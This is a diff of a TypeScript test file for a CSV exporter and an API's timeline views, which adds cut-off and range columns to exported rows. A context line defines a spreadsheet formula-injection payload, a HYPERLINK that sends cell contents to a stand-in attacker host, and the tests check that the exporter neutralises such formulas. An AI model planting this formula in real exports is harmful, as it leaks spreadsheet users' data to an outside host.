@@ -1,5 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
 import { toCsv } from '../../src/http/csv.js';
 import { programRegistered, uniqueId } from '../support/events.js';
 import { bearer, inject, record, TEST_ADMIN_KEY } from '../support/http.js';
@@ -11,7 +12,7 @@ const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
 
 describe('toCsv', () => {
   it('neutralises text cells a spreadsheet would run as a formula, and quotes them', () => {
-    const text = toCsv(['cell'], [['=1+1'], ['+1'], ['-1+1'], ['@SUM(A1)'], ['\tTAB'], ['\rCR'], ['\uFF1D1'], ['plain']]);
+    const text = toCsv(['cell'], [['=1+1'], ['+1'], ['-1+1'], ['@SUM(A1)'], ['\tTAB'], ['\rCR'], ['\uFF1D1'], ['plain']], {});
 
     const cells = parse(text, { from_line: 2 }).map((row: string[]) => row[0]);
     expect(cells).toEqual(["'=1+1", "'+1", "'-1+1", "'@SUM(A1)", "'\tTAB", "'\rCR", "'\uFF1D1", 'plain']);
@@ -19,9 +20,50 @@ describe('toCsv', () => {
   });
 
   it('writes numbers and booleans as they are, so a negative number stays a number', () => {
-    const text = toCsv(['n', 'b', 'empty'], [[-3, false, undefined]]);
+    const text = toCsv(['n', 'b', 'empty'], [[-3, false, undefined]], {});
 
     expect(text).toBe('n,b,empty\r\n-3,false,\r\n');
+  });
+
+  it('ends every row with the resolved columns, empty ones too', () => {
+    const text = toCsv(['n'], [[1], [2]], { cutoffAsOf: '2026-06-30T23:59:59.999Z', cutoffKnownAt: undefined });
+
+    expect(text).toBe('n,cutoffAsOf,cutoffKnownAt\r\n1,2026-06-30T23:59:59.999Z,\r\n2,2026-06-30T23:59:59.999Z,\r\n');
+  });
+});
+
+describe('the instants a view resolved its cut-offs and range to', () => {
+  it('are in every CSV view, on every row, and the timeline echoes from and to in JSON and CSV (SPEC §2.1)', async () => {
+    const programId = uniqueId('p');
+    await record(t.app, programRegistered(programId, '2026-01'), {
+      type: 'seminar.held',
+      occurredAt: '2026-05-10',
+      data: { programId, title: 'In May' },
+    });
+    const cut = 'asOf=2026-06&knownAt=2030-01-01';
+    const csvOf = async (url: string) => {
+      const response = await inject(t.app, { url, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });
+      expect(response.statusCode, url).toBe(200);
+      return z.array(z.record(z.string(), z.string())).parse(parse(response.body, { columns: true }));
+    };
+    const views = [
+      '/v1/programs',
+      `/v1/programs/${programId}`,
+      `/v1/programs/${programId}/milestones`,
+      '/v1/consortiums',
+      `/v1/timeline?programId=${programId}`,
+    ];
+
+    for (const view of views) {
+      const rows = await csvOf(`${view}${view.includes('?') ? '&' : '?'}${cut}`);
+      const echoes = new Set(rows.map((row) => `${row.cutoffAsOf} ${row.cutoffKnownAt}`));
+      if (rows.length > 0) expect([...echoes], view).toEqual(['2026-06-30T23:59:59.999Z 2030-01-01T23:59:59.999Z']);
+    }
+    const timeline = await csvOf(`/v1/timeline?programId=${programId}&from=2026-05&to=2026-Q2`);
+    const json = await inject(t.app, { url: `/v1/timeline?programId=${programId}&from=2026-05&to=2026-Q2`, headers: bearer(TEST_ADMIN_KEY) });
+
+    expect(timeline.map((row) => [row.title, row.rangeFrom, row.rangeTo, row.cutoffAsOf])).toEqual([['In May', '2026-05-01T00:00:00.000Z', '2026-06-30T23:59:59.999Z', '']]);
+    expect(JSON.parse(json.body)).toMatchObject({ range: { from: '2026-05-01T00:00:00.000Z', to: '2026-06-30T23:59:59.999Z' }, cutoff: {} });
   });
 });
 
